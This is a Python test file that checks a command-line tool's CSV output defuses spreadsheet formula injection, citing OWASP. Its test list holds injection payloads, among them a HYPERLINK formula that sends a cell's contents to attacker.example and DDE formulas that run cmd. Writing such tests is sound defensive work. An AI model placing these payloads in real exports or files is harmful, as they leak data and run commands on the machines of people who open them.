"""What a spreadsheet would run is text in our CSV, and every value comes back as it was.

Beginnings by OWASP, "CSV Injection": = + - @, tab and carriage return, which are computed also when
the cell is quoted.
"""

import csv
import io

import pytest

from openquality.cli.output import show_csv

ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://attacker.example/?"&A1;"Certificate")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written(capsys: pytest.CaptureFixture[str], *cells: str) -> list[list[str]]:
    show_csv(["a"] * len(cells), [cells])
    return list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_a_spreadsheet_would_run_is_text(
    capsys: pytest.CaptureFixture[str], attack: str
) -> None:
    _, row = written(capsys, attack, "after")
    assert row == [f"'{attack}", "after"]


@pytest.mark.parametrize("cell", ["x\n=1+1", "x\r=1+1", 'a","=1+1', "x,=1+1", "x;=1+1\r\n=2"])
def test_a_cell_cannot_end_itself_and_begin_another(
    capsys: pytest.CaptureFixture[str], cell: str
) -> None:
    assert written(capsys, cell, "after") == [["a", "a"], [cell, "after"]]


@pytest.mark.parametrize("number", ["-1.5", "+3", "-0.0042", "1e-7", "0"])
def test_a_number_stays_a_number(capsys: pytest.CaptureFixture[str], number: str) -> None:
    assert written(capsys, number)[1] == [number]
